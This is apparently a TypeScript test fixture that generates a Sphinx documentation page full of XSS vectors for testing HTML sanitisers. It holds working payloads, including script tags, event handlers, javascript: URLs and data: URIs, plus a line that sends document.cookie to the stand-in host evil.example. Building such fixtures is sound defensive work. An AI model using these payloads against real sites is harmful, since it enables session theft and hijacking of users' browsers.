// `hostile-demo`: a Sphinx page whose sections carry the usual XSS vectors, so sanitiser tests have a real source.
// Served at https://hostile-demo.readthedocs.io/en/latest/xss.html (one section per vector family).

import { section, sphinxPage } from './templates';

const NAV: [string, string][] = [['index.html', 'Home'], ['xss.html', 'Hostile content']];

const xss = sphinxPage({
  project: 'Hostile Demo',
  title: 'Hostile content',
  nav: NAV,
  body: section('hostile-content', 1, 'Hostile content',
    '<p>Every section below is unsafe to render as-is. A client must sanitise Embed API content.</p>',
    section('script-tags', 2, 'Script tags',
      '<p>Inline and remote scripts.</p>',
      '<script>alert("xss-script")</script>',
      '<script src="https://evil.example/steal.js"></script>',
      '<SCRIPT type="text/javascript">document.location = "https://evil.example/?c=" + document.cookie</SCRIPT>',
      '<p>After the scripts.</p>'),
    section('event-handlers', 2, 'Event handlers',
      '<img src="missing.png" onerror="alert(\'xss-onerror\')" alt="broken image" />',
      '<p><a href="#script-tags" onclick="alert(\'xss-onclick\')">A link with onclick</a></p>',
      '<div onmouseover="alert(\'xss-hover\')">Hover me</div>',
      '<svg onload="alert(\'xss-svg\')" width="10" height="10"><circle r="5"></circle></svg>',
      '<details open ontoggle="alert(\'xss-toggle\')"><summary>Details</summary><p>Body</p></details>',
      '<input autofocus onfocus="alert(\'xss-focus\')" />'),
    section('javascript-urls', 2, 'javascript: URLs',
      '<p><a href="javascript:alert(\'xss-js-link\')">javascript: link</a></p>',
      '<p><a href="JaVaScRiPt:alert(\'xss-mixed-case\')">Mixed-case scheme</a></p>',
      '<p><a href="java&#x09;script:alert(\'xss-entity\')">Entity in the scheme</a></p>',
      '<p><a href="vbscript:msgbox(\'xss-vbscript\')">vbscript: link</a></p>',
      '<form action="javascript:alert(\'xss-form\')"><button type="submit">Submit</button></form>'),
    section('embedded-frames', 2, 'Embedded frames and objects',
      '<iframe src="https://evil.example/frame.html" width="300" height="200"></iframe>',
      '<iframe srcdoc="&lt;script&gt;alert(\'xss-srcdoc\')&lt;/script&gt;"></iframe>',
      '<object data="https://evil.example/movie.swf" type="application/x-shockwave-flash"></object>',
      '<embed src="https://evil.example/movie.swf" />'),
    section('styles', 2, 'Styles',
      '<style>body { display: none; } .rst-content { background: url("https://evil.example/track.png"); }</style>',
      '<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: red;">Full-page overlay</p>',
      '<link rel="stylesheet" href="https://evil.example/evil.css" />'),
    section('data-uris', 2, 'data: URIs',
      '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" alt="SVG with onload" />',
      '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=" alt="1x1 PNG" />',
      '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data: HTML link</a></p>'),
    section('markup-tricks', 2, 'Markup tricks',
      '<meta http-equiv="refresh" content="0; url=https://evil.example/" />',
      '<base href="https://evil.example/" />',
      '<noscript><p title="</noscript><img src=x onerror=alert(\'xss-noscript\')>"></noscript>',
      '<p>&lt;script&gt;alert("escaped")&lt;/script&gt; is text, not markup.</p>',
      '<p>Right-to-left override: &#x202E;txt.exe</p>'),
    section('link-rewriting', 2, 'Links of every kind',
      '<ul>',
      '<li><a href="#script-tags">fragment only</a></li>',
      '<li><a href="index.html">relative</a></li>',
      '<li><a href="../v1.0/index.html">parent-relative</a></li>',
      '<li><a href="/en/latest/index.html">root-relative</a></li>',
      '<li><a href="//evil.example/protocol-relative">protocol-relative</a></li>',
      '<li><a href="https://example.com/absolute">absolute</a></li>',
      '<li><a href="mailto:security@example.com">mailto</a></li>',
      '<li><img src="_images/diagram.png" alt="relative image" /></li>',
      '</ul>')),
});

const index = sphinxPage({
  project: 'Hostile Demo',
  title: 'Hostile Demo',
  nav: NAV,
  body: section('hostile-demo', 1, 'Hostile Demo',
    '<p>This project exists to test sanitisers: see <a class="reference internal" href="xss.html">Hostile content</a>.</p>'),
});

export const HOSTILE_PAGES: Record<string, string> = { 'index.html': index, 'xss.html': xss };
